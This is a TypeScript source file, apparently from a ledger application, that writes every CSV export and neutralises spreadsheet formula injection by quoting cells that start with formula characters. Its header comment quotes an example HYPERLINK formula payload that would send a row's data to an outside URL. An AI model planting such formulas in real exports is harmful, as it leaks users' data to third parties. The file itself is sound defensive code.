// The project's one CSV writer: every CSV file the ledger writes (`ledger reports trial-balance --format csv`, the
// console's "Download CSV") is written here, in Node and in the browser alike, so that both are the same bytes and no
// file escapes the rule below. A test fails the build when another module imports csv-stringify.
//
// Formula injection (OWASP, "CSV Injection"): a spreadsheet evaluates a cell that begins with `=`, `+`, `-`, `@`, a
// tab or a carriage return, so an account named `=HYPERLINK("http://…"&A2,"x")` would become a link that sends the
// row away. Such a text cell is written with a single quote before it, which spreadsheets read as "this is text" and
// do not show. The columns are declared: a number column's cell is written as it is when it is a decimal number's
// text (a negative amount stays a number), and as text otherwise, so no column lets a formula through.
//
// csv-stringify's browser build: its Node build uses Node's global Buffer, which a browser lacks; the browser build
// brings its own and runs in Node the same. Its defaults: cells quoted when they hold a comma, a quote or a line
// break (quotes doubled), each row ended by "\n".
import { stringify } from 'csv-stringify/browser/esm/sync';
import { assert } from './errors.js';

export interface CsvColumn {
  name: string;
  type: 'text' | 'number';
}

/** A file's columns (its header row) and its rows, each cell as its text and in the columns' order. */
export interface CsvTable {
  columns: readonly CsvColumn[];
  rows: ReadonlyArray<readonly string[]>;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const DECIMAL = /^-?\d+(\.\d+)?$/;

/** A cell as the file holds it: a number's text as it is; a text that a spreadsheet would evaluate, quoted as text. */
export const csvCell = (type: CsvColumn['type'], value: string): string =>
  (type === 'number' && DECIMAL.test(value)) || !FORMULA_START.test(value) ? value : `'${value}`;

/** The file: the header row, then every row. */
export function csvFile(table: CsvTable): string {
  const { columns } = table;
  const rows = table.rows.map((row) => {
    assert(row.length === columns.length, `a CSV row of ${row.length} cells for ${columns.length} columns`);
    return row.map((value, i) => csvCell(columns[i]!.type, value));
  });
  return stringify([columns.map((c) => csvCell('text', c.name)), ...rows]);
}
